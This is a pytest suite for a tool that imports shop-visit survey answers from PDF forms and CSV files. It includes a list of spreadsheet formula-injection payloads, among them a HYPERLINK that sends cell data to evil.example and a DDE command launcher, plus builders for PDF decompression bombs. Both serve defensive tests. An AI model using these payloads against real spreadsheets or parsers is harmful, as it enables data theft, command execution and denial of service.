"""`handbook import`, as whoever collects the forms meets it."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
import zlib
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pikepdf
import pytest
from babel import Locale
from hypothesis import given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String

from handbook.results.answer import ANSWERS, IMPRESSIONS
from handbook.results.field_names import field_of
from handbook.results.table_kinds import RESULTS
from handbook.results.times import seconds_meant
from handbook.text.spreadsheet import is_guarded, unguarded
from handbook.words import words_in
from handbook.words.unable import Unable
from tests.built_once import built_once
from tests.conftest import Run, replace, run_handbook
from tests.drop_in import TODAY
from tests.forms import SHOP, fill, imported, print_forms

Command = Callable[..., Run]
ENGLISH = words_in("en")
VISIT = {"date": "20 November 2026", "place": "High Street", "hour": "14"}
ANSWERED = {
    "donation/thank-giver": "yes",
    "browse/price-facing": "no",
    "note:browse/price-facing": 'Two rails had none, "as always", he said',
    "impression:donation": "positive",
    "visit": "2",
    "note:remembered": "Das Lächeln – и спасибо",
    "recommend": "na",
}


@pytest.fixture(scope="session")
def prints(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The forms of the shop."""
    shop = built_once(tmp_path_factory, "forms", lambda folder: print_forms(shutil.copytree(SHOP, folder / "shop")))
    return shop / "shop" / "print"


@pytest.fixture(scope="session")
def form(prints: Path) -> Path:
    """The empty form of the shop's visit."""
    return prints / "forms" / "shop-visit.pdf"


@pytest.fixture
def inbox(tmp_path: Path, form: Path) -> Callable[..., Path]:
    """Put a filled-in form into a folder."""

    def put(name: str, answers: dict[str, str]) -> Path:
        return fill(form, answers, tmp_path / name)

    return put


def rows_in(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_what_was_filled_in_is_a_row_each(handbook_command: Command, shop: Path, inbox: Callable[..., Path]) -> None:
    """The columns are the model's, the order is the form's, and the checker is content with them."""
    form = inbox("one.pdf", VISIT | ANSWERED)
    run = handbook_command("-C", shop, "import", form)
    assert run.status == 0 and run.err.startswith(f"[1/1] {form}\n"), run.err
    assert run.out.endswith("one.pdf: 5 answers entered in results/shop-visit-2026.csv; 7 questions not answered.\n")
    assert (shop / "results" / "shop-visit-2026.csv").read_text("utf-8") == (
        "\ufeffdate,scorecard,visit,place,hour,edition,moment,item,answer,note,seconds\n"
        "2026-11-20,shop-visit,2,High Street,14,2026.10,donation,thank-giver,yes,,\n"
        "2026-11-20,shop-visit,2,High Street,14,2026.10,,impression:donation,positive,,\n"
        '2026-11-20,shop-visit,2,High Street,14,2026.10,browse,price-facing,no,"Two rails had none, ""as always"", he said",\n'
        "2026-11-20,shop-visit,2,High Street,14,2026.10,,remembered,yes,Das Lächeln – и спасибо,\n"
        "2026-11-20,shop-visit,2,High Street,14,2026.10,,recommend,na,,\n"
    )
    assert handbook_command("-C", shop, "check", "--strict").status == 0


def test_a_phrase_that_was_heard_and_what_only_this_form_asks(
    handbook_command: Command, shop: Path, inbox: Callable[..., Path]
) -> None:
    """A phrase is an item of its own; what results have no place for is not lost without a word."""
    heard = {"phrase:ban-tip": "yes", "extra:1": "A moment at the bus stop", "remembered": "no"}
    run = handbook_command("-C", shop, "import", inbox("one.pdf", VISIT | heard))
    assert "one.pdf: 2 answers entered" in run.out
    assert run.out.endswith("11 questions not answered; what is written on 1 question of its own stays in the form.\n")
    items = [(row["item"], row["answer"]) for row in rows_in(shop / "results" / "shop-visit-2026.csv")]
    assert items == [("phrase:ban-tip", "yes"), ("remembered", "no")]


def test_what_only_this_form_asks_is_kept_under_its_id(handbook_command: Command, shop: Path, tmp_path: Path) -> None:
    """Ticked, on a scale, in words; who cannot go elsewhere is not asked whether to return; what is counted by ear has no clock."""
    extras = "".join(
        f"\n      - id: {id_}\n        ask: Was it {id_}?\n        answer: {answer}"
        for id_, answer in (("dry", "yes-no"), ("warm", "scale-5"), ("loud", "words"))
    )
    replace(
        shop / "standards.yml",
        "    moments: [donation, refused, browse, window-look]\n",
        f"    moments: [donation, refused, browse, window-look]\n    ask_once: price-facing\n    extra:{extras}\n",
    )
    replace(shop / "standards.yml", "handbook:\n", "handbook:\n  elsewhere: false\n")
    replace(shop / "standards.yml", "      what: hours\n      at_least: 1", "      what: rings\n      at_most: 3")
    answers = {"item:extra:dry": "na", "item:extra:warm": "4", "item:extra:loud": "A bit", "price-facing": "no"}
    form = print_forms(shop) / "forms" / "shop-visit.pdf"
    with pikepdf.open(form) as pdf:
        fields = {str(field.T) for field in pdf.Root.AcroForm.Fields}
    with pikepdf.open(shop / "print" / "forms" / "doorstep-visit.pdf") as pdf:
        assert not [field for field in pdf.Root.AcroForm.Fields if str(field.T).startswith("time:")]
    assert ("remembered" in fields, "return" in fields, "browse/price-facing" in fields) == (True, False, False)
    run = handbook_command("-C", shop, "import", fill(form, VISIT | answers, tmp_path / "one.pdf"))
    assert run.status == 0, run.err
    rows = rows_in(shop / "results" / "shop-visit-2026.csv")
    assert {(row["item"], row["answer"]) for row in rows} == {
        ("extra:dry", "na"),
        ("extra:warm", "4"),
        ("extra:loud", "A bit"),
        ("price-facing", "no"),
    }


def test_what_the_clock_said_is_counted_and_stands_in_the_note_as_written(
    handbook_command: Command, shop: Path, prints: Path, tmp_path: Path
) -> None:
    """Where a standard has a measure of time, the form has a line for it; a form of the time before counts once still."""
    timed = {"collect-on-day": "no", "time:collect-on-day": "20 minutes", "note:collect-on-day": "No ring before"}
    form = fill(prints / "forms" / "doorstep-visit.pdf", VISIT | timed, tmp_path / "one.pdf")
    handbook_command("-C", shop, "import", form)
    (row,) = rows_in(shop / "results" / "doorstep-visit-2026.csv")
    assert (row["note"], row["seconds"]) == ("20 minutes; No ring before", "1200")
    results = shop / "results" / "doorstep-visit-2026.csv"
    results.write_text(as_before := results.read_text("utf-8").replace(",1200", ","), "utf-8")
    assert handbook_command("-C", shop, "import", form).status == 0
    assert results.read_text("utf-8") == as_before


@pytest.mark.parametrize(
    ("language", "unit", "written", "seconds"),
    [
        ("en", "", "20 minutes", "1200"),
        ("en", "", "1 min 30 s", "90"),
        ("de", "", "2,5 Std.", "9000"),
        ("ja", "", "20分", "1200"),
        ("en", "second", "4.5", "4.5"),
        ("en", "", "4.5", ""),
        ("en", "second", "20 30", ""),
        ("en", "second", "1:30", ""),
        ("en", "", "1,200 s", ""),
        ("en", "", "about 20 minutes", ""),
        ("en", "second", "", ""),
    ],
)
def test_a_time_counts_where_only_one_can_be_meant(language: str, unit: str, written: str, seconds: str) -> None:
    """A unit is called as in the handbook's language or in English; what may be two times, or is about one, is none."""
    assert seconds_meant(written, Locale(language), unit) == seconds


def test_what_a_coach_saw_is_entered_but_is_no_shop(
    handbook_command: Command, shop: Path, prints: Path, tmp_path: Path
) -> None:
    """An observation sheet asks the shopper's questions of a touchpoint; its answers stand under the touchpoint."""
    seen = {
        "donation/thank-giver": "no",
        "note:donation/thank-giver": "The bag first",
        "impression:donation": "neutral",
    }
    sheet = fill(prints / "observe" / "counter.pdf", VISIT | seen, tmp_path / "counter.pdf")
    assert handbook_command("-C", shop, "import", sheet).status == 0
    assert (shop / "results" / "observe-counter-2026.csv").read_text("utf-8").splitlines()[1:] == [
        "2026-11-20,observe:counter,,High Street,14,2026.10,donation,thank-giver,no,The bag first,",
        "2026-11-20,observe:counter,,High Street,14,2026.10,,impression:donation,neutral,,",
    ]
    assert handbook_command("-C", shop, "check", "--strict").status == 0


def test_a_form_counts_once(handbook_command: Command, shop: Path, inbox: Callable[..., Path]) -> None:
    """Whoever imports a whole folder again only adds what is new in it, also where one file lies in it twice."""
    one, copy = inbox("one.pdf", VISIT | ANSWERED), inbox("copy.pdf", VISIT | ANSWERED)
    handbook_command("-C", shop, "import", one, copy)
    other = inbox("other.pdf", VISIT | ANSWERED | {"hour": "15"})
    run = handbook_command("-C", shop, "import", one, other, copy)
    assert run.status == 0
    assert run.out.count("all that it tells was entered before.") == 2
    hours = [row["hour"] for row in rows_in(shop / "results" / "shop-visit-2026.csv")]
    assert hours == ["14"] * 5 + ["15"] * 5


def test_two_stories_of_one_visit_are_for_a_person_to_settle(
    handbook_command: Command, shop: Path, inbox: Callable[..., Path]
) -> None:
    """Neither is taken for the truth in silence."""
    handbook_command("-C", shop, "import", inbox("one.pdf", VISIT | ANSWERED))
    before = (shop / "results" / "shop-visit-2026.csv").read_bytes()
    run = handbook_command("-C", shop, "import", inbox("two.pdf", VISIT | ANSWERED | {"donation/thank-giver": "no"}))
    assert run.status == 1
    assert "There are other answers already about this visit: 2026-11-20, shop-visit, High Street, 14, 2." in run.err
    assert (shop / "results" / "shop-visit-2026.csv").read_bytes() == before


def test_one_wrong_file_stops_them_all_and_each_is_named(
    handbook_command: Command, shop: Path, inbox: Callable[..., Path]
) -> None:
    """Half of a folder entered would leave nobody knowing which half."""
    undated = inbox("undated.pdf", ANSWERED)
    noted = inbox("noted.pdf", VISIT | {"note:donation/thank-giver": "She did", "remembered": "no"})
    run = handbook_command("-C", shop, "import", inbox("one.pdf", VISIT | ANSWERED), undated, noted)
    assert (run.status, run.out) == (1, "")
    assert f"{undated}: There is no date on it.\n  → Fill in the day" in run.err
    assert f"{noted}: “thank-giver” has a note but no answer.\n" in run.err
    assert run.err.endswith("Nothing is entered.\n")
    assert not (shop / "results").exists()


@pytest.mark.parametrize(
    ("answers", "sentence"),
    [
        (VISIT, "Nothing is answered on it."),
        (VISIT | ANSWERED | {"date": "last Friday"}, "“last Friday” is not a date."),
        (VISIT | ANSWERED | {"edition": "2019.1"}, "There is no edition “2019.1”"),
        (VISIT | ANSWERED | {"scorecard": "shop-vist"}, "Did you mean “shop-visit”?"),
    ],
)
def test_what_cannot_be_is_said(
    handbook_command: Command, shop: Path, inbox: Callable[..., Path], answers: dict[str, str], sentence: str
) -> None:
    """Once, however many rows it would have spoilt."""
    run = handbook_command("-C", shop, "import", inbox("one.pdf", answers))
    assert run.status == 1
    assert run.err.count(sentence) == 1
    assert not (shop / "results").exists()


def test_what_is_no_form_is_told_so(handbook_command: Command, shop: Path, tmp_path: Path, form: Path) -> None:
    """A scan, a locked file, a file cut short and a text are four different things to do something about."""
    scan, locked, cut, text = (tmp_path / name for name in ("scan.pdf", "locked.pdf", "cut.pdf", "text.pdf"))
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(scan)
    with pikepdf.open(form) as pdf:
        pdf.save(locked, encryption=pikepdf.Encryption(owner="o", user="u"))
    cut.write_bytes(form.read_bytes()[: form.stat().st_size // 2])
    text.write_text("Thank you for shopping")
    run = handbook_command("-C", shop, "import", scan, locked, cut, text)
    assert run.status == 1
    assert f"{scan}: It is not one of our forms" in run.err
    assert f"{locked}: It is locked with a password." in run.err
    assert f"{text}: It is not a PDF, or it is damaged." in run.err
    assert f"{cut}: It is" in run.err
    assert "Traceback" not in run.err


def test_programs_tick_boxes_in_different_ways(shop: Path, tmp_path: Path, form: Path) -> None:
    """A value without a tick, a tick without a value, a value that is text: each is an answer; two ticks are none."""

    def ticked(change: Callable[[pikepdf.Object], object]) -> list[str]:
        with pikepdf.open(fill(form, VISIT, tmp_path / "visit.pdf")) as pdf:
            change(next(field for field in pdf.Root.AcroForm.Fields if field.T == "donation/thank-giver"))
            pdf.save(tmp_path / "ticked.pdf")
        run = imported(shop, tmp_path / "ticked.pdf")
        (shop / "results" / "shop-visit-2026.csv").unlink(missing_ok=True)
        return [answer.answer for done in run.new for answer in done.rows] or [
            str(no.why.message.said(ENGLISH)) for no in run.refused
        ]

    assert ticked(lambda question: setattr(question, "V", Name.no)) == ["no"]
    assert ticked(lambda question: setattr(question, "V", String("no"))) == ["no"]
    assert ticked(lambda question: setattr(question.Kids[1], "AS", Name.no)) == ["no"]

    def without_value(question: pikepdf.Object) -> None:
        del question.V
        question.Kids[0].AS, question.Kids[2].AS = Name.yes, Name.na

    assert ticked(without_value) == ["“yes and na” is no answer to “thank-giver”."]


def test_a_file_that_is_there_is_only_made_longer(
    handbook_command: Command, shop: Path, inbox: Callable[..., Path]
) -> None:
    """Its order of columns, its line ends and every byte of it stay."""
    path = shop / "results" / "shop-visit-2026.csv"
    path.parent.mkdir()
    before = b"\xef\xbb\xbfitem,answer,note,date,scorecard,place,hour,edition\r\nthank-giver,no,caf\xc3\xa9,2026-01-02,shop-visit,,,"
    path.write_bytes(before)
    handbook_command("-C", shop, "import", inbox("one.pdf", VISIT | {"return": "yes"}))
    assert path.read_bytes() == before + b"\r\nreturn,yes,,2026-11-20,shop-visit,High Street,14,2026.10\r\n"
    path.write_text("date,scorecard,item,answer\n")
    run = handbook_command("-C", shop, "import", inbox("one.pdf", VISIT | {"return": "yes"}))
    assert run.status == 1
    assert "It has no column “place”." in run.err


def refused(folder: Path, *files: Path) -> list[str]:
    """What is said of files of which none is entered."""
    run = imported(folder, *files)
    assert run.refused
    assert not (folder / "results").exists()
    return [f"{one.why.message.said(ENGLISH)} → {one.why.cure.said(ENGLISH)}" for one in run.refused]


@pytest.mark.parametrize(
    ("answers", "sentence"),
    [
        ({"date": "2062-11-20"}, "The day 2062-11-20 is still to come; today is 2026-11-21."),
        ({"date": "1026-11-20"}, "The day 1026-11-20 is too long ago to be meant."),
        ({"date": "03/04/2026"}, "“03/04/2026” can be two days: 2026-03-04 or 2026-04-03."),
        ({"date": "2026-W01-1"}, "“2026-W01-1” is not a date."),
        ({"date": "01.10.26"}, "“01.10.26” has a year of two figures, so that it can be several days."),
        ({"date": "46296"}, "“46296” is how a spreadsheet counts its days, from 1900 or from 1904."),
        ({"date": "Fri, 1 Oct 2026"}, "“Fri, 1 Oct 2026”: that day is another day of the week."),
        ({"hour": "25"}, "“25” is not an hour."),
        ({"hour": "+44"}, "“+44” is not an hour."),
        (
            {"note:donation/thank-giver": "x" * 200_000},
            f"“{'x' * 100}…” has 200,000 characters, and may have 32,767 at most.",
        ),
    ],
)
def test_what_only_the_shopper_can_mend_is_said_to_whoever_can_ask(
    tmp_path: Path, inbox: Callable[..., Path], answers: dict[str, str], sentence: str
) -> None:
    """A day to come, an hour that is none, a note that no table could hold: with whom to ask, and nothing is entered."""
    (said,) = refused(tmp_path, inbox("one.pdf", VISIT | ANSWERED | answers))
    assert said.startswith(sentence)
    assert said.endswith("Whoever made the visit can mend it in the form, save it, and send it again.")


DATES = [
    "2026-10-01", "1 October 2026", "1st Oct 2026", "October 1, 2026", "Thursday, 1 October 2026", "2026/10/01", "2026-10-1", "2026.10.01",
    "2026‑10‑01", "2026–10–01", "２０２６-１０-０１", "2026年10月1日", "٢٠٢٦-١٠-٠١", " 2026 - 10 - 01 ".replace(" - ", "-"),
    "2026-10-01 00:00:00", "2026-10-01T00:00:00Z", "20261001",
]  # fmt: skip


def test_a_day_and_an_hour_are_taken_as_people_write_them(tmp_path: Path) -> None:
    """As long as only one can be meant, whatever the keyboard; results have each in one way, so that they are one visit."""
    header = "date,scorecard,hour,item,answer\n"
    rows = "".join(
        f'"{day}",shop-visit,{hour},thank-giver,yes\n' for day in DATES for hour in ("14", "14:30", "2 pm", "14:30:05")
    )
    table = tmp_path / "visits.csv"
    table.write_text(header + rows + "31/03/2026,shop-visit,,thank-giver,no\n", "utf-8")
    assert not imported(tmp_path, table).refused
    rows_entered = rows_in(tmp_path / "results" / "shop-visit-2026.csv")
    assert [(row["date"], row["hour"]) for row in rows_entered] == [("2026-10-01", "14"), ("2026-03-31", "")]


def test_an_answer_is_taken_as_people_write_it(tmp_path: Path) -> None:
    """In English or the language of the handbook, where words are not what is asked for; so is a day that this language writes."""
    table = tmp_path / "visits.csv"
    header = "date,scorecard,visit,moment,item,answer\n"
    said = {"YES": "yes", "Nein": "no", "N/A": "na", "trifft nicht zu": "na", " y. ": "yes", "Ja": "yes", "no": "no"}
    rows = "".join(f"1.10.2026,shop-visit,{visit},,thank-giver,{answer}\n" for visit, answer in enumerate(said))
    rows += "1.10.2026,shop-visit,9,donation,impression,Negativ\n1.10.2026,shop-visit,9,,extra:bus-stop,Nein\n"
    table.write_text(header + rows, "utf-8")
    assert not imported(tmp_path, table, handbook="de").refused
    entered = rows_in(tmp_path / "results" / "shop-visit-2026.csv")
    assert [row["answer"] for row in entered] == [*said.values(), "negative", "Nein"]
    assert {row["date"] for row in entered} == {"2026-10-01"}
    (said_of_it,) = {one.partition(" can be")[0] for one in refused(tmp_path / "none", table) if "can be" in one}
    assert said_of_it == "“1.10.2026”"


def test_a_table_is_entered_by_the_rules_of_results_and_once(tmp_path: Path) -> None:
    """Visit by visit, in the file of its scorecard and year; a place is the same however it is typed."""
    table, again = tmp_path / "a.csv", tmp_path / "again.csv"
    header = "place,date,scorecard,item,answer,note,visit,seconds\n"
    rows = 'Café,2026-10-01,shop-visit,thank-giver,yes,"two\nlines",a,9\nCafé,2025-10-01,doorstep-visit,return,no,,,\n'
    table.write_text(header + rows, "utf-8")
    again.write_text(header + rows.replace("Café", "CAFE\u0301").replace("Two", "two"), "utf-8")
    assert len(imported(tmp_path, table).new) == 1
    assert sorted(path.name for path in (tmp_path / "results").iterdir()) == [
        "doorstep-visit-2025.csv",
        "shop-visit-2026.csv",
    ]
    assert imported(tmp_path, table, again).known == [table, again]
    (row,) = rows_in(tmp_path / "results" / "shop-visit-2026.csv")
    assert (row["place"], row["note"], row["visit"], row["seconds"]) == ("Café", "two lines", "a", "9")


def test_a_table_that_is_wrong_is_refused_at_its_line(tmp_path: Path) -> None:
    """As it would be in the results, and with all that is wrong with it."""
    table = tmp_path / "a.csv"
    table.write_text(
        "date,scorecard,item,answer\n2026-10-01,shop-visit,thank-giver,yes\n2026-10-01,shop-visit,thank-giver,no\n"
    )
    run = imported(tmp_path, table)
    assert f"{table}, line 3: “thank-giver” is answered for this visit already" in run.said(ENGLISH)
    table.write_bytes("date;scorecard\n".encode("utf-16"))
    assert "The file is in UTF-16" in refused(tmp_path, table)[0]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("date,scorecard,item,answer\n".encode("utf-16-be"), "The file is in UTF-16"),
        (b"sep=;\ndate;scorecard;item;answer\n", "The first line says how the values are separated"),
    ],
)
def test_a_table_that_a_program_marked_is_no_document(shop: Path, tmp_path: Path, content: bytes, said: str) -> None:
    """However it was saved it is one of answers, of which no entries are made."""
    table = tmp_path / "a.csv"
    table.write_bytes(content)
    run = run_handbook(shop, "import", str(table))
    assert (run.status, said in run.out + run.err) == (1, True)


def test_nothing_is_entered_where_two_files_say_two_things(tmp_path: Path) -> None:
    """Whatever the file is that is handed in: what a house has already is looked at as a whole."""
    header = "date,scorecard,item,answer\n"
    (tmp_path / "results").mkdir()
    for name, answer in (("a", "yes"), ("b", "no")):
        (tmp_path / "results" / f"{name}.csv").write_text(f"{header}2026-10-01,shop-visit,thank-giver,{answer}\n")
    new = tmp_path / "new.csv"
    new.write_text(f"{header}2026-10-02,shop-visit,thank-giver,yes\n")
    with pytest.raises(Unable, match=r"results/b\.csv:2"):
        imported(tmp_path, new)
    (tmp_path / "results" / "b.csv").write_text(f"{header}2026-10-01,shop-visit,thank-giver,yes\n")
    assert not imported(tmp_path, new).refused
    assert imported(tmp_path, new, tmp_path / "results" / "a.csv").known == [new, tmp_path / "results" / "a.csv"]


def test_what_is_no_file_is_not_waited_for(tmp_path: Path) -> None:
    """A pipe that nobody writes into gives nothing for ever, and a device no end."""
    os.mkfifo(tmp_path / "pipe.csv")
    said = refused(tmp_path, tmp_path / "pipe.csv", Path("/dev/zero"))
    assert [line.partition(":")[0] for line in said] == ["The file cannot be read"] * 2


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "“=1+1",
    "a;=1+1",
    "'=1",
]


def test_what_a_stranger_typed_runs_in_no_spreadsheet(tmp_path: Path, inbox: Callable[..., Path]) -> None:
    """In whichever field; what is read again is what was typed, and the checker is content with it."""
    forms = [
        inbox(
            f"{number}.pdf", VISIT | {"place": text, "donation/thank-giver": "yes", "note:donation/thank-giver": text}
        )
        for number, text in enumerate(HOSTILE)
    ]
    assert not imported(tmp_path, *forms).refused
    (path,) = (tmp_path / "results").iterdir()
    cells = [cell for row in rows_in(path) for cell in (row["place"], row["note"])]
    assert [unguarded(cell) for cell in cells[::2]] == [unguarded(cell) for cell in cells[1::2]] == HOSTILE
    assert not [
        cell for cell in cells if not is_guarded(cell) or cell.lstrip("“").startswith(("=", "+", "-", "@", "＝"))
    ]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert imported(tmp_path, *forms).known == forms


def packed(unpacked: bytes, times: int) -> bytes:
    """Something a thousand times, as PDFs pack it, without ever having it in memory."""
    block = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    return b"\x78\xda" + (block.compress(unpacked) + block.flush(zlib.Z_FULL_FLUSH)) * times + b"\3\0"


def with_note(form: Path, saved: Path, filters: Name | Array, content: bytes, notes: int = 1) -> Path:
    """A form with notes that are packed."""
    with pikepdf.open(form) as pdf:
        for number in range(notes):
            note = pdf.make_stream(b"")
            note.write(content, filter=filters)
            name = String(f"note:{number}")
            field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=name, V=note, Subtype=Name.Widget, Rect=[0, 0, 1, 1]))
            pdf.Root.AcroForm.Fields.append(field)
            pdf.pages[0].Annots.append(field)
        pdf.save(saved, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return saved


def with_packed_objects(saved: Path, content: bytes) -> Path:
    """A PDF whose form stands in a packed stream of objects."""
    bodies = (
        b"<</Type/Catalog/Pages 2 0 R/AcroForm 5 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"<</Type/ObjStm/N 1/First 7/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(content), content),
    )
    pdf, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(pdf))
        pdf += b"%d 0 obj %b endobj\n" % (number, body)
    entries = [
        b"\0" * 7,
        *(b"\1%b\0\0" % place.to_bytes(4) for place in (*places, 0)),
        b"\1%b\0\0" % len(pdf).to_bytes(4),
    ]
    entries[5] = b"\2\0\0\0\4\0\0"
    table = b"".join(entries)
    head = b"6 0 obj <</Type/XRef/W[1 4 2]/Root 1 0 R/Size 7/Length %d>>stream\n" % len(table)
    saved.write_bytes(pdf + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(pdf))
    return saved


MEASURED = """\
import atexit, pathlib, runpy, sys
at = pathlib.Path(sys.argv.pop(1))
atexit.register(lambda: at.write_text(pathlib.Path("/proc/self/status").read_text()))
runpy.run_module("handbook", run_name="__main__", alter_sys=True)
"""
"""The command, and what it had in memory at most; what `wait` says counts in the memory of whoever started it."""


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux can be told how much memory a process may take")
def test_what_unpacks_to_gigabytes_is_refused_within_200_megabytes(shop: Path, form: Path, tmp_path: Path) -> None:
    """A value of zeros, one packed twice, many at once, objects that are packed: each is told, and nothing is entered."""
    zeros, gigabyte = bytes(1 << 20), packed(bytes(1 << 20), 1000)
    twice = zlib.compress(gigabyte)
    files = [
        with_note(form, tmp_path / "one.pdf", Name.FlateDecode, gigabyte),
        with_note(form, tmp_path / "two.pdf", Array([Name.FlateDecode, Name.FlateDecode]), twice),
        with_note(form, tmp_path / "many.pdf", Name.FlateDecode, packed(zeros, 10), notes=100),
        with_packed_objects(tmp_path / "objects.pdf", packed(b"5 0    <<>>".ljust(1 << 20), 1000)),
        with_packed_objects(tmp_path / "array.pdf", packed(b"5 0    [".ljust(1 << 20, b"["), 1000)),
    ]
    with (tmp_path / "said").open("w") as said:
        measured = [sys.executable, "-c", MEASURED, str(tmp_path / "peak")]
        command = subprocess.run([*measured, "-C", str(shop), "import", *map(str, files)], stderr=said)
    text = (tmp_path / "said").read_text("utf-8")
    assert command.returncode == 1, text
    assert [f"{file}: It holds more than any form of ours can hold" in text for file in files] == [True] * len(files), (
        text
    )
    peak = re.search(r"VmHWM:\s*(\d+) kB", (tmp_path / "peak").read_text("utf-8"))
    assert peak and int(peak[1]) < 200_000
    assert not (shop / "results").exists()


def test_a_handbook_with_errors_takes_no_answers(
    handbook_command: Command, shop: Path, inbox: Callable[..., Path]
) -> None:
    """Answers are checked against it; the errors are shown, as everywhere."""
    replace(shop / "standards.yml", "up_to: 2\n", "up_to: £2\n")
    run = handbook_command("-C", shop, "import", inbox("one.pdf", VISIT | ANSWERED))
    assert run.status == 1
    assert "not-a-number" in run.err
    assert not (shop / "results").exists()


def test_results_that_cannot_be_written_are_left_as_they_were(
    handbook_command: Command, shop: Path, inbox: Callable[..., Path]
) -> None:
    """Nothing half-written is left behind."""
    (shop / "results" / "shop-visit-2026.csv").mkdir(parents=True)
    run = handbook_command("-C", shop, "import", inbox("one.pdf", VISIT | ANSWERED))
    assert run.status == 1
    assert "The results cannot be written" in run.err
    assert "Traceback" not in run.err


@pytest.mark.parametrize("arguments", [("import",), ("import", "nowhere.pdf")])
def test_wrong_use_is_status_2(handbook_command: Command, shop: Path, arguments: tuple[str, ...]) -> None:
    """No file, or one that does not exist, says nothing about any form."""
    run = handbook_command("-C", shop, *arguments)
    assert run.status == 2
    assert run.err.startswith("Usage:")


ITEMS = [
    "donation/thank-giver",
    "refused/thank-giver",
    "say-where",
    "window-look/price-facing",
    "remembered",
    "return",
    "recommend",
]
MOMENTS = ["impression:donation", "impression:refused", "impression:browse", "impression:window-look"]
TEXT = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=40).map(lambda text: " ".join(text.split()))
ANSWER = st.one_of(
    *(st.tuples(st.just(item), st.sampled_from(ANSWERS), TEXT) for item in ITEMS),
    *(st.tuples(st.just(item), st.sampled_from(IMPRESSIONS), TEXT) for item in MOMENTS),
)


@given(
    st.lists(ANSWER, min_size=1, unique_by=lambda answer: answer[0]),
    st.dates(date(1990, 1, 1), TODAY),
    TEXT,
    st.integers(0, 23).map(str) | st.just(""),
)
@settings(max_examples=40)
def test_any_set_of_answers_comes_back(
    tmp_path_factory: pytest.TempPathFactory,
    form: Path,
    answers: list[tuple[str, str, str]],
    day: date,
    place: str,
    hour: str,
) -> None:
    """Whatever is ticked and written on a form is what the results then say, to the reader of results and to any other."""
    folder = tmp_path_factory.mktemp("any")
    written = {"date": str(day), "place": place, "hour": hour}
    for item, answer, note in answers:
        written |= {item: answer, f"note:{item}": note}
    filled_in = fill(form, written, folder / "any.pdf")
    assert not imported(folder, filled_in).refused
    (path,) = (folder / "results").iterdir()
    rows = rows_in(path)
    assert list(rows[0]) == list(RESULTS.columns)
    assert {(field_of(row["moment"], row["item"]), row["answer"], unguarded(row["note"])) for row in rows} == set(
        answers
    )
    assert {(row["date"], unguarded(row["place"]), row["hour"]) for row in rows} == {(str(day), place, hour)}
    assert imported(folder, filled_in).known == [filled_in]


def test_slips_and_practice_come_in_by_the_same_door_and_once(handbook_command: Command, shop: Path) -> None:
    """Each into a file for its year, with days as people write them; what no slip can say is said at its line."""
    slips, practice, wrong = (shop / name for name in ("slips.csv", "practised.csv", "wrong.csv"))
    slips.write_text(
        "touchpoint,date,hour,cause,settled_by,minutes,cost,note\n"
        'counter,13/10/2026,2 pm,system,first,4,2.50,"=two\nlines"\n'
        "counter,5 Jan 2025,,unclear,open,,,\ncounter,2026-10-13,14,system,first,4.0,2.5,=two lines\n"
    )
    practice.write_text("date,about,look_again\n1 October 2026,thank-giver,31.12.2026\n")
    run = handbook_command("-C", shop, "import", slips, practice)
    assert "2 slips entered in slips/2026.csv and slips/2025.csv." in run.out
    assert "1 note on practice entered in coaching/2026.csv." in run.out
    (slip,), (practised,) = rows_in(shop / "slips" / "2026.csv"), rows_in(shop / "coaching" / "2026.csv")
    assert (slip["date"], slip["hour"], slip["note"]) == ("2026-10-13", "14", "'=two lines")
    assert (practised["date"], practised["look_again"]) == ("2026-10-01", "2026-12-31")
    assert handbook_command("-C", shop, "import", slips, practice).out.count("was entered before") == 2
    wrong.write_text("date,touchpoint,cause,settled_by,name\n03/04/2026,counter,Jo,first,Jo\n")
    run = handbook_command("-C", shop, "import", wrong)
    assert "Tables in slips/ have no column “name”." in run.err
    wrong.write_text("date,touchpoint,cause,settled_by\n03/04/2026,counter,Jo,first\n")
    run = handbook_command("-C", shop, "import", wrong)
    assert f"{wrong}, line 2: “03/04/2026” can be two days: 2026-03-04 or 2026-04-03." in run.err
    assert "“Jo” is no cause." in run.err
    assert handbook_command("-C", shop, "check").status == 0
